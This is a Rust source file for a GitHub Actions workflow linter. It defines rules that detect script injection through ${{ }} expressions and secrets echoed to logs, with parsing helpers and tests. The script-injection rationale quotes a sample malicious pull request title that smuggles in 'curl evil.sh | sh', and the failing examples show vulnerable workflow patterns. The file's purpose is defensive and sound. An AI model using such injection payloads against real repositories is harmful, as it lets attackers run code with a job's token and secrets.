//! What reaches a shell: `${{ }}` expressions are pasted into the script
//! before it runs, so their values become code; and what a script prints
//! ends up in logs that many people can read.

use std::collections::HashMap;
use std::ops::Range;

use shipgate_core::{Alias, Category, Example, RuleMeta, Severity, Tool};
use shipgate_syntax::yaml::NodeRef;

use super::script::{
    context_paths, expressions, is_secret, is_untrusted, shell_variables, value_span,
};
use super::{HARDENING_GUIDE, Job, Step, UNTRUSTED_INPUT, Workflow};
use crate::sink::FileSink;
use crate::{Check, RuleDef};

pub(super) const SCRIPT_INJECTION: RuleDef = RuleDef {
    meta: RuleMeta {
        id: "workflows/script-injection",
        title: "Scripts do not expand untrusted event data with `${{ }}`",
        severity: Severity::Error,
        category: Category::Security,
        rationale: "GitHub substitutes `${{ }}` expressions into a `run:` script (or an \
            `actions/github-script` script) as text, before the shell or Node.js parses it. An \
            issue title, a pull request body, a branch name or a commit message is chosen by \
            whoever opened it, so a title such as `\"; curl evil.sh | sh; #` becomes part of the \
            program and runs with the job's token and secrets.",
        remediation: "Pass untrusted values through an environment variable: the shell then \
            treats them as data. Quote the variable.\n\n\
            ```yaml\n- name: Check title\n  env:\n    TITLE: ${{ github.event.pull_request.title }}\n  \
            run: |\n    if [[ \"$TITLE\" =~ ^fix: ]]; then echo ok; fi\n```\n\n\
            In `actions/github-script`, read `context.payload` instead of expanding expressions.",
        references: &[
            UNTRUSTED_INPUT,
            "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections",
            HARDENING_GUIDE,
            "https://github.com/ossf/scorecard/blob/main/docs/checks.md#dangerous-workflow",
        ],
        aliases: &[Alias::new(Tool::Checkov, "CKV_GHA_2")],
        enabled_by_default: true,
        failing: Example {
            file: ".github/workflows/ci.yml",
            content: "on: pull_request
permissions:
  contents: read
jobs:
  title:
    runs-on: ubuntu-24.04
    steps:
      - run: |
          echo \"Checking ${{ github.event.pull_request.title }}\"
",
        },
        passing: Example {
            file: ".github/workflows/ci.yml",
            content: "on: pull_request
permissions:
  contents: read
jobs:
  title:
    runs-on: ubuntu-24.04
    steps:
      - env:
          TITLE: ${{ github.event.pull_request.title }}
        run: |
          echo \"Checking $TITLE for ${{ github.event.pull_request.number }}\"
",
        },
    },
    check: Check::Workflow(script_injection),
};

/// The scripts of a step: `run:`, and the JavaScript of `actions/github-script`.
fn scripts<'a>(step: &Step<'a>) -> impl Iterator<Item = (NodeRef<'a>, &'static str)> {
    let github_script = if step.uses_action("actions/github-script") {
        step.input("script")
    } else {
        None
    };
    step.run
        .map(|n| (n, "run"))
        .into_iter()
        .chain(github_script.map(|n| (n, "with.script")))
}

fn script_injection(workflow: &Workflow<'_>, sink: &mut FileSink<'_>) {
    for job in &workflow.jobs {
        for step in &job.steps {
            for (node, field) in scripts(step) {
                let Some(text) = node.scalar_text() else {
                    continue;
                };
                for expression in expressions(text) {
                    let Some(body) = text.get(expression.body.clone()) else {
                        continue;
                    };
                    let Some((path, _)) = context_paths(body)
                        .into_iter()
                        .find(|(path, _)| is_untrusted(path))
                    else {
                        continue;
                    };
                    sink.at(
                        value_span(node, expression.range.clone()),
                        format!("{}.{field}", step.logical(job)),
                        format!(
                            "`{path}` is expanded into the script before it runs: whoever \
                             writes it can run commands with this job's token and secrets"
                        ),
                    )
                    .set_help(format!(
                        "set `env: VALUE: ${{{{ {path} }}}}` on the step and use \"$VALUE\""
                    ));
                }
            }
        }
    }
}

pub(super) const SECRET_ECHOED: RuleDef = RuleDef {
    meta: RuleMeta {
        id: "workflows/secret-echoed",
        title: "Scripts do not print secrets to the log",
        severity: Severity::Warning,
        category: Category::Security,
        rationale: "Workflow logs are readable by everyone with read access to the repository, \
            which for a public repository is everyone. GitHub masks the exact value of each \
            secret, but not a value that was transformed, split across lines, JSON-escaped or \
            printed in a structured blob, so `echo`ing a secret is one encoding away from \
            publishing it.",
        remediation: "Never print secrets; hand them to the tool that needs them through its \
            standard input, a file or an environment variable:\n\n\
            ```yaml\n- env:\n    TOKEN: ${{ secrets.REGISTRY_TOKEN }}\n  run: \
            echo \"$TOKEN\" | docker login ghcr.io -u bot --password-stdin\n```\n\n\
            To hide a derived value, register it first with `echo \"::add-mask::$VALUE\"`.",
        references: &[
            "https://docs.github.com/en/actions/security-for-github-actions/security-guides/using-secrets-in-github-actions",
            HARDENING_GUIDE,
        ],
        aliases: &[],
        enabled_by_default: true,
        failing: Example {
            file: ".github/workflows/ci.yml",
            content: "on: push
permissions:
  contents: read
jobs:
  deploy:
    runs-on: ubuntu-24.04
    steps:
      - run: echo \"token is ${{ secrets.DEPLOY_TOKEN }}\"
",
        },
        passing: Example {
            file: ".github/workflows/ci.yml",
            content: "on: push
permissions:
  contents: read
jobs:
  deploy:
    runs-on: ubuntu-24.04
    steps:
      - env:
          TOKEN: ${{ secrets.DEPLOY_TOKEN }}
        run: |
          echo \"$TOKEN\" | docker login ghcr.io -u bot --password-stdin
          echo \"TOKEN=$TOKEN\" > .env.deploy
",
        },
    },
    check: Check::Workflow(secret_echoed),
};

/// Environment variables that hold a secret at a step, layered as GitHub
/// layers them: workflow, then job, then step, each overriding the last.
fn secret_variables<'a>(
    workflow: &Workflow<'a>,
    job: &Job<'a>,
    step: &Step<'a>,
) -> HashMap<&'a str, bool> {
    let mut names = HashMap::new();
    for env in [workflow.env, job.env, step.env].into_iter().flatten() {
        for (key, value) in env.entries() {
            let Some(name) = key.as_text() else {
                continue;
            };
            let secret = value.scalar_text().is_some_and(|text| {
                expressions(text).iter().any(|e| {
                    text.get(e.body.clone())
                        .is_some_and(|body| context_paths(body).iter().any(|(p, _)| is_secret(p)))
                })
            });
            names.insert(name, secret);
        }
    }
    names
}

fn secret_echoed(workflow: &Workflow<'_>, sink: &mut FileSink<'_>) {
    for job in &workflow.jobs {
        for step in &job.steps {
            let Some(run) = step.run else {
                continue;
            };
            let Some(script) = run.scalar_text() else {
                continue;
            };
            let secrets = secret_variables(workflow, job, step);
            for command in printing_commands(script) {
                let Some(text) = script.get(command.clone()) else {
                    continue;
                };
                let Some((what, range)) = secret_reference(text, &secrets) else {
                    continue;
                };
                let range = command.start + range.start..command.start + range.end;
                sink.at(
                    value_span(run, range),
                    format!("{}.run", step.logical(job)),
                    format!("{what} is printed to the workflow log"),
                )
                .set_help("pipe it to the tool that needs it, or write it to a file");
            }
        }
    }
}

/// The first secret a command prints: an expression over `secrets.*` or
/// `github.token`, or a variable set from one.
fn secret_reference(text: &str, secrets: &HashMap<&str, bool>) -> Option<(String, Range<usize>)> {
    let mut found: Vec<(String, Range<usize>)> = Vec::new();
    for expression in expressions(text) {
        let Some(body) = text.get(expression.body.clone()) else {
            continue;
        };
        if let Some((path, _)) = context_paths(body).into_iter().find(|(p, _)| is_secret(p)) {
            found.push((format!("`{path}`"), expression.range));
        }
    }
    for (name, range) in shell_variables(text) {
        if secrets.get(name).copied().unwrap_or(false) {
            found.push((format!("`${name}`, set from a secret,"), range));
        }
    }
    found.into_iter().min_by_key(|(_, range)| range.start)
}

/// Byte ranges of the `echo` and `printf` commands of a script whose output
/// goes to the log: not piped into another command, not redirected to a file.
fn printing_commands(script: &str) -> Vec<Range<usize>> {
    let mut commands = Vec::new();
    for segment in segments(script) {
        let Some(text) = script.get(segment.range.clone()) else {
            continue;
        };
        let trimmed = text.trim_start();
        let lead = text.len() - trimmed.len();
        let mut words = trimmed.split_whitespace();
        let mut first = words.next().unwrap_or("");
        // Keywords that start a compound command may precede the command itself.
        while matches!(first, "then" | "do" | "else" | "{" | "(") {
            first = words.next().unwrap_or("");
        }
        if !matches!(first, "echo" | "printf") {
            continue;
        }
        if segment.piped || redirects_to_file(trimmed) || trimmed.contains("::add-mask::") {
            continue;
        }
        commands.push(segment.range.start + lead..segment.range.end);
    }
    commands
}

/// Whether a command sends its standard output to a file (`>`, `>>`),
/// as opposed to standard error (`>&2`), which also ends up in the log.
fn redirects_to_file(command: &str) -> bool {
    let bytes = command.as_bytes();
    let mut quote = None;
    for (i, &c) in bytes.iter().enumerate() {
        match (quote, c) {
            (Some(q), _) if c == q => quote = None,
            (Some(_), _) => {}
            (None, b'\'' | b'"') => quote = Some(c),
            (None, b'>') => {
                let rest = &command[i + 1..];
                let rest = rest.strip_prefix('>').unwrap_or(rest);
                if !rest.trim_start().starts_with('&') {
                    return true;
                }
            }
            _ => {}
        }
    }
    false
}

struct Segment {
    range: Range<usize>,
    /// Whether the segment's output feeds the next command through `|`.
    piped: bool,
}

/// Splits a script into simple commands at newlines, `;`, `&&`, `||` and
/// `|`, outside quotes. Good enough for the one-line commands workflows
/// hold; heredocs and subshells are not followed.
fn segments(script: &str) -> Vec<Segment> {
    let bytes = script.as_bytes();
    let mut segments = Vec::new();
    let mut start = 0;
    let mut quote = None;
    let mut i = 0;
    while i < bytes.len() {
        let c = bytes[i];
        match (quote, c) {
            (Some(q), _) if c == q => quote = None,
            (Some(b'"'), b'\\') => i += 1,
            (Some(_), _) => {}
            (None, b'\'' | b'"') => quote = Some(c),
            (None, b'\\') => i += 1,
            (None, b'\n' | b';') => {
                segments.push(Segment {
                    range: start..i,
                    piped: false,
                });
                start = i + 1;
            }
            (None, b'&') if bytes.get(i + 1) == Some(&b'&') => {
                segments.push(Segment {
                    range: start..i,
                    piped: false,
                });
                i += 1;
                start = i + 1;
            }
            (None, b'|') => {
                let or = bytes.get(i + 1) == Some(&b'|');
                segments.push(Segment {
                    range: start..i,
                    piped: !or,
                });
                if or {
                    i += 1;
                }
                start = i + 1;
            }
            _ => {}
        }
        i += 1;
    }
    if start < bytes.len() {
        segments.push(Segment {
            range: start..bytes.len(),
            piped: false,
        });
    }
    segments
}

#[cfg(test)]
mod tests {
    use super::*;

    fn printed(script: &str) -> Vec<&str> {
        printing_commands(script)
            .into_iter()
            .map(|r| &script[r])
            .collect()
    }

    #[test]
    fn finds_commands_whose_output_reaches_the_log() {
        assert_eq!(printed("echo $A"), ["echo $A"]);
        assert_eq!(printed("make && echo \"$A\" >&2"), ["echo \"$A\" >&2"]);
        assert!(printed("echo $A | docker login --password-stdin").is_empty());
        assert!(printed("echo \"A=$A\" >> \"$GITHUB_ENV\"").is_empty());
        assert!(printed("echo \"::add-mask::$A\"").is_empty());
        assert_eq!(printed("if x; then echo $A; fi"), ["then echo $A"]);
        assert_eq!(printed("echo 'a | b' $A"), ["echo 'a | b' $A"]);
    }
}
